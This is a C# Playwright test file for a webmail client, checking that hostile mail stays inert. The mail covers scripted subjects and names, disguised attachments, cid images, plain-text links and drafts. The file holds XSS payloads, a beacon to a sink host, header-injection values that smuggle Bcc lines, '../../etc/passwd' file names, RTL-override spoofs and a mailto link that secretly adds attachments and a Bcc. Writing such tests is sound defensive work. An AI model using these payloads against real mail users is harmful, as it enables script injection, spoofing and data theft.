using System.Text;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Aviso.Tests.System.Browser;

/// <summary>Hostile in other places than HTML: names, subjects, file names, types, pictures, plain text, links, drafts.</summary>
[Collection(BrowserScene.Collection)]
public sealed class HostileShapeTests(BrowserScene scene) : IClassFixture<BrowserScene>
{
    private const string Script = "window.pwned=1;new Image().src='http://" + Sink.Host + "/script'";
    private const string Image = "<img src=x: onerror=\"" + Script + "\">";
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + Script + "\"><script>" + Script + "</script></svg>";

    [Fact]
    public Task Subjects_and_names_are_text() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        var hostile = "\"><script>" + Script + "</script>" + Image;
        var word = $"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes("one" + hostile))}?=";
        var turned = $"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes("Bank\u202e moc.knab\u202c\u200b"))}?=";
        person.Receives(
            new Letter(word)
            {
                From = $"{word} <mia@elsewhere.test>",
                Fields = $"Reply-To: {word} <tom@elsewhere.test>\r\nCc: {word} <x@elsewhere.test>\r\n"
            },
            new Letter("two " + Image) { From = "\"security@bank.test\" <mia@elsewhere.test>" },
            new Letter("three") { From = $"{turned} <mia@elsewhere.test>" },
            new Letter("four " + string.Concat(Enumerable.Repeat("very\r\n long",
                400)))
            { From = string.Concat(Enumerable.Repeat("=?utf-8?Q?Very_?=\r\n ", 60)) + " <mia@elsewhere.test>" },
            new Letter("=?utf-8?Q?five=0D=0ABcc:_carol@example.test=00?=")
            {
                From = "=?utf-8?Q?Mia=0D=0ABcc:_carol@example.test?= "
                + "<mia@elsewhere.test>"
            });
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        await Expect(mail.Rows).ToHaveCountAsync(5);
        await Expect(mail.Row("<script>")).ToHaveCountAsync(1);
        // A name that is somebody else's address is not shown as one, and nothing turns the direction of what follows.
        await Expect(mail.Row("two ")).ToContainTextAsync("mia@elsewhere.test");
        await Expect(mail.Row("two ")).Not.ToContainTextAsync("security@bank.test");
        await Expect(mail.Row("three")).ToContainTextAsync("Bank moc.knab");
        foreach (var subject in (string[])["one\">", "two ", "three", "four ", "five"])
        {
            await mail.OpenAsync(subject);
            await mail.Reader.Locator(".message-to").ClickAsync();
            await mail.Keys.PressAsync("r");
            await Expect(mail.Composer).ToBeVisibleAsync();
            await Expect(mail.Composer.GetByLabel("Subject"))
                .Not.ToHaveValueAsync(new global::System.Text.RegularExpressions.Regex("[\\r\\n\\0]"));
            await mail.Composer.GetByRole(AriaRole.Button, new() { Name = "Save and close" }).ClickAsync();
            await mail.Keys.PressAsync("f");
            await Expect(mail.Editor).ToContainTextAsync("Forwarded message");
            Assert.Equal(0, await mail.Editor.Locator("img,script").CountAsync());
            await mail.Composer.GetByRole(AriaRole.Button, new() { Name = "Save and close" }).ClickAsync();
            await Expect(mail.Composer).ToHaveCountAsync(0);
        }
        // No name or subject makes the page wider than its window.
        Assert.Equal(await mail.Page.EvaluateAsync<int>("() => innerWidth"),
            await mail.Page.EvaluateAsync<int>("() => document.documentElement.scrollWidth"));
        await NothingRanAsync(mail);
    });

    [Fact]
    public Task Attachments_are_saved_and_never_opened_as_pages() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        var page = $"<!doctype html><script>{Script}</script>{Image}";
        person.Receives(new Letter("Many files")
        {
            Html = "<p>See attached.</p>",
            Parts =
            [
                Letter.Attachment("page.html", "text/html", page),
                Letter.Attachment("drawing.svg", "image/svg+xml", Svg),
                Letter.Attachment("page.xhtml", "application/xhtml+xml",
                    $"<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{Script}</script></html>"),
                Letter.Attachment("false.png", "image/png", Svg),
                Letter.Attachment("\\\"><img src=x: onerror=alert(1)>.txt", "text/plain\"; x=\"<script>alert(1)</script>", "text"),
                Letter.Attachment("../../etc/passwd", "text/plain", "text"),
                Letter.Attachment("photo\u202egnp.exe", "application/octet-stream", "text")
                    .Replace("photo\u202egnp.exe", $"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes("photo\u202egnp.exe"))}?=",
                    StringComparison.Ordinal),
                Letter.Attachment("winmail.dat", "application/ms-tnef; name=\"<img src=x: onerror=alert(1)>\"", "x"),
            ],
        });
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        await mail.OpenAsync("Many files");
        await Expect(mail.Body.GetByText("See attached.")).ToBeVisibleAsync();
        var links = mail.Reader.GetByRole(AriaRole.Link, new() { NameRegex = new("^Save ") });
        await Expect(links).ToHaveCountAsync(8);
        await Expect(links.Nth(5)).ToHaveAttributeAsync("download", ".._.._etc_passwd");
        await Expect(links.Nth(6)).ToHaveAttributeAsync("download", "photognp.exe");
        // Whatever type is asked for in their address, none is a page of this origin.
        foreach (var link in await links.AllAsync())
        {
            var address = new Uri(new Uri(play.Scene.Origin), await link.GetAttributeAsync("href")).ToString();
            foreach (var asked in (string[])["application/octet-stream", "text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"])
            {
                var answer = await mail.Page.APIRequest.GetAsync(address.Replace("application%2Foctet-stream", Uri.EscapeDataString(asked),
                    StringComparison.Ordinal));
                if (!answer.Ok) continue;
                Assert.StartsWith("attachment", answer.Headers["content-disposition"], StringComparison.Ordinal);
                Assert.Equal("nosniff", answer.Headers["x-content-type-options"]);
            }
            await mail.Page.RunAndWaitForDownloadAsync(() => link.ClickAsync());
        }
        // A drawing that calls itself a picture is looked at as one, and as such it draws nothing.
        await mail.Button("Look at false.png").ClickAsync();
        await Expect(mail.Dialog).ToBeVisibleAsync();
        await mail.Keys.PressAsync("Escape");
        await NothingRanAsync(mail);
    });

    [Fact]
    public Task Parts_that_pictures_are_taken_from_hold_pictures() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        static string Part(string type, string id, string content) =>
            $"Content-Type: {type}\r\nContent-ID: <{id}>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: "
                + $"base64\r\n\r\n{Letter.Base64(content)}";
        person.Receives(new Letter("Confused")
        {
            Kind = "related",
            Html = "<p>Pictures?</p><img src=\"cid:page\"><img src=\"cid:drawing\"><img src=\"cid:../../session\"><img "
                + "src=\"cid:%2e%2e%2fsession\">"
                + "<img src=\"CID:none\"><img src=\"cid:\"><img src=\"cid:a%00b\"><img src=\"cid:&quot;><script>\"><iframe "
                    + "src=\"cid:page\"></iframe>"
                + "<object data=\"cid:page\"></object><a "
                    + "href=\"cid:page\">click</a><style>p{background:url(cid:drawing)}i{background:url(cid:page)}</style><i>x</i>",
            Parts = [Part("text/html", "page", Image), Part("image/svg+xml", "drawing", Svg),
                Part("image/png; x=\"<\"", "\"><script>", Svg)],
        });
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        await mail.OpenAsync("Confused");
        await Expect(mail.Body.GetByText("Pictures?")).ToBeVisibleAsync();
        Assert.Equal(0, await mail.Body.Locator("a[href],iframe,object,script").CountAsync());
        Assert.Equal(0, await mail.Body.Locator("img").EvaluateAllAsync<int>("all => all.filter(one => one.naturalWidth > 0).length"));
        await NothingRanAsync(mail);
    });

    [Fact]
    public Task Plain_text_becomes_no_markup() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        person.Receives(
            new Letter("Plain")
            {
                Text = $"start\r\n{Image}\r\nhttp://x\"onmouseover=\"{Script}\r\nhttps://example.test/a?<script>{Script}</script>\r\n"
                    + $"javascript:{Script}\r\n"
                + $"mia@x.test\"onclick=\"{Script}\r\nwww.example.test/'onclick='{Script}\r\n<a "
                    + $"href=\"javascript:{Script}\">click</a>\r\n&lt;script&gt;\r\nend\r\n"
            },
            new Letter("Enriched")
            {
                Raw = $"Content-Type: text/enriched\r\n\r\n<bold>start</bold> <x-color><param>red\" "
                + $"onclick=\"{Script}</param>{Image}</x-color>\r\n"
            },
            new Letter("Xhtml")
            {
                Raw = $"Content-Type: application/xhtml+xml\r\n\r\n<html "
                + $"xmlns=\"http://www.w3.org/1999/xhtml\"><body>start<script>{Script}</script></body></html>\r\n"
            },
            new Letter("Seven bits")
            {
                Raw = "Content-Type: text/html; charset=utf-7\r\n\r\nstart +ADw-script+AD4-" + Script
                + "+ADw-/script+AD4-\r\n"
            },
            new Letter("Odd letters") { Raw = "Content-Type: text/html; charset=\"x-<script>\"\r\n\r\nstart " + Image + "\r\n" });
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        foreach (var subject in (string[])["Plain", "Enriched", "Seven bits", "Odd letters", "Xhtml"])
        {
            await mail.OpenAsync(subject);
            if (subject == "Plain") await Expect(mail.Body.GetByText("end")).ToBeVisibleAsync();
            var handlers = await mail.Body.Locator("*").EvaluateAllAsync<string[]>(
                "all => all.flatMap(one => [...one.attributes].filter(a => /^on/.test(a.name) || (a.name === 'href' && "
                    + "!/^(https?:|mailto:)/.test(a.value))).map(a => a.name))");
            Assert.Empty(handlers);
            await mail.Keys.PressAsync("r");
            await Expect(mail.Composer).ToBeVisibleAsync();
            Assert.Equal(0, await mail.Editor.Locator("img,script").CountAsync());
            await mail.Composer.GetByRole(AriaRole.Button, new() { Name = "Save and close" }).ClickAsync();
            await Expect(mail.Composer).ToHaveCountAsync(0);
            await NothingRanAsync(mail);
        }
    });

    [Fact]
    public Task Links_say_where_they_lead_and_letters_they_begin_are_text() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        person.Receives(new Letter("Links")
        {
            Html = $"<p><a href=\"http://{Sink.Host}/other\">https://www.bank.test/</a></p><p><a "
                + $"href=\"http://bank.test@{Sink.Host}/user\">bank</a></p>"
                + "<p><a href=\"http://127.0.0.1:9/ip\">number</a></p><p><a href=\"https://xn--bnk-5na.test/\">look</a></p>"
                + $"<p><a "
                    + $"href=\"mailto:x@example.test?subject={Uri.EscapeDataString(Image)}&amp;body={Uri.EscapeDataString(Image)}"
                    + $"&amp;cc={Uri.EscapeDataString("\"<script>\" <y@example.test>")}"
                    + $"&amp;attach=/etc/passwd&amp;bcc=spy@evil.example\">write</a></p>",
        });
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        await mail.OpenAsync("Links");
        foreach (var (text, warning) in ((string, string)[])[("https://www.bank.test/", "Its text names another place."),
            ("bank", "made to look like an address"),
            ("number", "bare number"), ("look", "letters that may look like others")])
        {
            await mail.Body.GetByText(text, new() { Exact = true }).ClickAsync();
            await Expect(mail.Dialog).ToContainTextAsync(warning);
            await mail.Dialog.GetByRole(AriaRole.Button, new() { Name = "Cancel" }).ClickAsync();
            await Expect(mail.Dialog).ToHaveCountAsync(0);
        }
        await mail.Body.GetByText("write", new() { Exact = true }).ClickAsync();
        await Expect(mail.Composer.GetByLabel("Subject")).ToHaveValueAsync(Image);
        await Expect(mail.Editor).ToContainTextAsync("onerror");
        Assert.Equal(0, await mail.Editor.Locator("img,script").CountAsync());
        // What a link asks for in secret it does not get.
        await Expect(mail.Composer.GetByText("spy@evil.example")).ToHaveCountAsync(0);
        Assert.Single(mail.Page.Context.Pages);
        await NothingRanAsync(mail);
    });

    /// <summary>A draft may be another's work: CVE-2026-48849 was HTML in the subject of one.</summary>
    [Fact]
    public Task A_draft_of_somebody_else_is_as_harmless_as_mail() => scene.PlayAsync(async play =>
    {
        var person = play.NewPerson();
        var payloads = HostilePayload.All.Where(p => p.Runs && p.Group is "scripts" or "confusions").Take(12).ToList();
        person.Keeps("Drafts", new Letter("shared " + Image)
        {
            Html = "<p>begun</p>" + string.Concat(payloads.Select(p => $"<div>{p.Html}</div>")),
        }, "\\Draft");
        var mail = await play.SignedInAsync(person);
        mail.Watch.ExpectWordsOfTheSanitiser();
        await mail.GoAsync("Drafts");
        await mail.Row("shared ").ClickAsync();
        await Expect(mail.Editor).ToContainTextAsync("begun");
        await Expect(mail.Composer.GetByLabel("Subject")).ToHaveValueAsync("shared " + Image);
        Assert.Equal(0, await mail.Editor.Locator("script,svg,math,iframe,template").CountAsync());
        await NothingRanAsync(mail);
    });

    private static async Task NothingRanAsync(Webmail mail)
    {
        foreach (var frame in mail.Page.Frames)
            Assert.Empty(await frame.Locator("body *")
                .EvaluateAllAsync<string[]>(
                "all => all.flatMap(one => [...one.attributes].filter(a => /^on/i.test(a.name)).map(a => a.name))"));
        foreach (var frame in mail.Page.Frames) Assert.True(await frame.EvaluateAsync<bool>("() => window.pwned === undefined"),
            "a script ran");
        mail.Watch.AssertQuiet();
    }
}
